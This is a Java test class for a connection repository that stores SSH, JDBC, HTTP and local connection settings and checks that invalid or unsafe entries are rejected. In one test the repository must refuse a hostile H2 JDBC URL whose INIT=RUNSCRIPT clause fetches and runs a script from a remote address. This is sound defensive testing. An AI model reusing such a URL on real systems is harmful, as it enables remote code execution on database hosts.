package dev.runbench.command;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.runbench.command.Connection.Jdbc;
import dev.runbench.command.Connection.Ssh;
import dev.runbench.command.Connection.SshAuth;
import dev.runbench.command.risk.Environment;
import dev.runbench.store.PgTest;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;

class ConnectionRepositoryPgTest extends PgTest {

    private static final Ssh SSH = new Ssh(
            0,
            "db-1",
            "10.0.0.1",
            22,
            "deploy",
            SshAuth.KEY_FILE,
            Optional.of("/k"),
            Optional.empty(),
            true,
            Environment.PRODUCTION);
    private static final Jdbc JDBC =
            new Jdbc(0, "orders", "jdbc:postgresql://h:5432/orders", "ro", true, Environment.STAGING);

    @Test
    void connectionsComeBackAsTheyWereSavedSortedByName() {
        var repository = new ConnectionRepository(database);
        Connection orders = repository.save(JDBC);
        Connection db1 = repository.save(SSH);
        assertThat(db1.id()).isPositive();
        assertThat(repository.all()).containsExactly(db1, orders);
        assertThat(repository.byName("orders")).contains(orders);
        repository.delete(orders.id());
        assertThat(repository.byId(orders.id())).isEmpty();
    }

    @Test
    void thisComputerComesBackWithItsVariablesAndItsClient() {
        var repository = new ConnectionRepository(database);
        for (CloudClient client : List.of(
                CloudClient.NONE,
                new CloudClient.Kubernetes("/k", "prod", "shop"),
                new CloudClient.Aws("prod", ""),
                new CloudClient.Azure("Production"),
                new CloudClient.Gcloud("default", "ann@example.org", "shop"))) {
            Connection.Local local = local(client, "REGION", "a=b, c");
            Connection saved = repository.save(local);
            assertThat(saved).usingRecursiveComparison().ignoringFields("id").isEqualTo(local);
            assertThat(repository.save(saved)).isEqualTo(saved);
            repository.delete(saved.id());
        }
    }

    @Test
    void aComputerWithASecretInAVariableOrAClientWithoutANameIsNotSaved() {
        var repository = new ConnectionRepository(database);
        assertThatThrownBy(() -> repository.save(local(CloudClient.NONE, "DB_PASSWORD", "hunter2hunter2")))
                .hasMessageContaining("looks like a secret");
        assertThatThrownBy(() -> repository.save(local(new CloudClient.Kubernetes("", "", ""), "A", "b")))
                .hasMessageContaining("name of a context");
        assertThat(repository.all()).isEmpty();
    }

    @Test
    void aBroughtDriverComesBackWithItsHash() {
        var repository = new ConnectionRepository(database);
        Jdbc jdbc = new Jdbc(0, "o", "jdbc:oracle:thin:@//h:1521/s", "ann", false, Environment.STAGING)
                .with(new DriverJar("/d/ojdbc11.jar", "ab".repeat(32)));
        Connection saved = repository.save(jdbc);
        assertThat(saved).usingRecursiveComparison().ignoringFields("id").isEqualTo(jdbc);
        assertThatThrownBy(() -> repository.save(
                        new Jdbc(0, "p", "jdbc:oracle:thin:@//h:1521/s", "ann", false, Environment.STAGING)))
                .hasMessageContaining("must begin with");
    }

    @Test
    void anApiComesBackAndASecretIsNeverSentInTheOpen() {
        var repository = new ConnectionRepository(database);
        var api = new Connection.Http(
                0, "api", "https://h/v1", "", Connection.HttpAuth.HEADER, "X-Api-Key", Environment.STAGING);
        Connection saved = repository.save(api);
        assertThat(saved).usingRecursiveComparison().ignoringFields("id").isEqualTo(api);
        assertThat(repository.save(saved)).isEqualTo(saved);
        for (String url : List.of("http://h/v1", "https://u:p@h", "https://h?x=1", "ftp://h", "h")) {
            var bad = new Connection.Http(0, "b", url, "", Connection.HttpAuth.BEARER, "", Environment.STAGING);
            assertThatThrownBy(() -> repository.save(bad)).as(url).isInstanceOf(RuntimeException.class);
        }
    }

    private static Connection.Local local(CloudClient client, String variable, String value) {
        return new Connection.Local(
                0, "here", "/bin/sh", "/tmp", new TreeMap<>(Map.of(variable, value)), client, Environment.PRODUCTION);
    }

    @Test
    void namesAreUnique() {
        var repository = new ConnectionRepository(database);
        repository.save(SSH);
        assertThatThrownBy(() -> repository.save(SSH)).hasMessageContaining("db-1 already");
    }

    @Test
    void aPinnedHostKeyStaysUntilTheHostChanges() {
        var repository = new ConnectionRepository(database);
        Ssh saved = (Ssh) repository.save(SSH);
        repository.pin(saved, "ssh-ed25519 AAAA");
        Ssh pinned = (Ssh) repository.byId(saved.id()).orElseThrow();
        assertThat(pinned.hostKey()).contains("ssh-ed25519 AAAA");
        assertThatThrownBy(() -> repository.pin(saved, "ssh-ed25519 BBBB")).hasMessageContaining("changed meanwhile");

        Ssh renamed = with(pinned, "db-one", "10.0.0.1");
        assertThat(((Ssh) repository.save(renamed)).hostKey()).isPresent();
        assertThat(((Ssh) repository.save(with(pinned, "db-one", "10.0.0.2"))).hostKey())
                .isEmpty();
    }

    @Test
    void namesThatFillACardAndHostsThatAreNoneAreNotSaved() {
        var repository = new ConnectionRepository(database);
        assertThatThrownBy(() -> repository.save(with(SSH, "x".repeat(101), "h")))
                .hasMessageContaining("100 characters");
        assertThatThrownBy(() -> repository.save(with(SSH, "db-1\nproduction", "h")))
                .hasMessageContaining("one line");
        for (String host : new String[] {"no such host", "root@h", "ssh://h"}) {
            assertThatThrownBy(() -> repository.save(with(SSH, "db-1", host))).hasMessageContaining("no host's name");
        }
        assertThat(repository.all()).isEmpty();
        assertThat(repository.save(with(SSH, "db-1", "fe80::1%eth0"))).isNotNull();
    }

    @Test
    void dangerousUrlsAreNotSaved() {
        var repository = new ConnectionRepository(database);
        Jdbc evil = new Jdbc(0, "x", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://x'", "", false, Environment.PRACTICE);
        assertThatThrownBy(() -> repository.save(evil)).hasMessageContaining("init");
        assertThat(repository.all()).isEmpty();
    }

    private static Ssh through(Ssh c, String name, long jump) {
        return new Ssh(
                c.id(),
                name,
                c.host(),
                c.port(),
                c.account(),
                c.auth(),
                c.keyFile(),
                c.hostKey(),
                c.terminal(),
                c.environment(),
                Optional.of(jump),
                false);
    }

    @Test
    void theWayThroughAnotherHostIsKeptAndCannotBeCutOrRunInACircle() {
        var repository = new ConnectionRepository(database);
        Ssh bastion = (Ssh) repository.save(with(SSH, "bastion", "b"));
        Ssh behind = (Ssh) repository.save(through(SSH, "behind", bastion.id()));
        assertThat(repository.byId(behind.id())).contains(behind);
        assertThat(behind.jump()).contains(bastion.id());
        assertThat(behind.toldBySftp()).isFalse();
        assertThatThrownBy(() -> repository.delete(bastion.id()))
                .hasMessageContaining("The way to behind leads through");
        assertThatThrownBy(() -> repository.save(through(bastion, "bastion", behind.id())))
                .hasMessageContaining("circle");
        assertThatThrownBy(() -> repository.save(through(bastion, "bastion", bastion.id())))
                .hasMessageContaining("circle");
        repository.delete(behind.id());
        repository.delete(bastion.id());
        assertThat(repository.all()).isEmpty();
    }

    private static Ssh with(Ssh c, String name, String host) {
        return new Ssh(
                c.id(),
                name,
                host,
                c.port(),
                c.account(),
                c.auth(),
                c.keyFile(),
                c.hostKey(),
                c.terminal(),
                c.environment());
    }
}
